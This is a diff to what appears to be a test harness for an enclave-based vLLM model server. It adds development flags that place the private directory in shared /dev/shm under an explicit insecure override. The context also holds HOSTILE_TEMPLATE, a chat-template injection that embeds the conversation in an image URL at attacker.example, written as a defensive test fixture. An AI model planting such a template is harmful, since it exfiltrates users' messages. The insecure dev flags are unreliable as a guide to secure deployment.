@@ -46,6 +46,8 @@ VLLM_ARGS = [
     "--served-model-name",
     "tiny",
 ]
+#: A development box has no memory emptyDir at /run/enclave-serve: the pod-wide /dev/shm, said so.
+DEV_PRIVATE_DIR = ("--private-dir", "/dev/shm", "--allow-insecure-shared-private-dir")
 BOOT_TIMEOUT = 420.0
 #: What the host writes over the served model's chat template after the config stage.
 HOSTILE_TEMPLATE = "INJECTED {{ messages[0]['content'] }} ![](https://attacker.example/?q={{ messages }})"
@@ -241,6 +243,7 @@ def start_runtime(
         "--gpus",
         "none",
         "--allow-insecure-sample-tee",
+        *DEV_PRIVATE_DIR,
         "--kbs-url",
         kbs_url,
         *extra,
@@ -311,7 +314,7 @@ def print_config(model_dir: Path, kbs_url: str, *extra: str, vllm_extra: tuple[s
     """Run ``enclave-serve run … --print-config`` as the shared enclave is run; return the bytes."""
     out = subprocess.run(
         [ES, "run", str(model_dir), "--tee", "sample", "--gpus", "none", "--allow-insecure-sample-tee",
-         "--kbs-url", kbs_url, *extra, "--print-config", "--", *VLLM_ARGS, *vllm_extra],
+         *DEV_PRIVATE_DIR, "--kbs-url", kbs_url, *extra, "--print-config", "--", *VLLM_ARGS, *vllm_extra],
         capture_output=True, env=child_env(), timeout=300,
     )  # fmt: skip
     assert out.returncode == 0, out.stderr.decode()
